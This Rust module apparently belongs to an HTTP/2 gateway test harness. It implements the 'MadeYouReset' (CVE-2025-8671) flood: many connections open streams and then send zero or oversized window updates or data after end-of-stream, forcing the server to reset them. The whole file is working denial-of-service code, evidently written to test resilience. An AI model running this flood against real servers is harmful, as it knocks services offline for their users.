//! `MadeYouReset` (CVE-2025-8671): requests that the gateway itself must reset, for a fault made on purpose. Every
//! connection makes another fault.

use super::attacker::{Field, Flood};
use super::frames::{Block, Frames, Kind, Numbers, STREAMS};
use super::stage::ATTACKED;

const FLOOD: Flood = Flood { connections: 9, frames: 50_000 };

pub(crate) const REQUESTS: u32 = FLOOD.connections * STREAMS as u32;

pub(crate) async fn run(field: &Field) {
    let block = Block::get(ATTACKED, "/bytes/1000");
    field
        .flood(FLOOD, move |connection| {
            let (block, mut numbers) = (block.clone(), Numbers::default());
            move |frames: &mut Frames| {
                let stream = numbers.one_more();
                frames.request(stream, &block);
                match connection % 3 {
                    // A window grows by nothing, or beyond what there is, or the request goes on after its end.
                    0 => frames.window(stream, 0),
                    1 => frames.window(stream, i32::MAX.unsigned_abs()),
                    _ => frames.push(Kind::Data, 0, stream, b"more"),
                }
            }
        })
        .await;
}
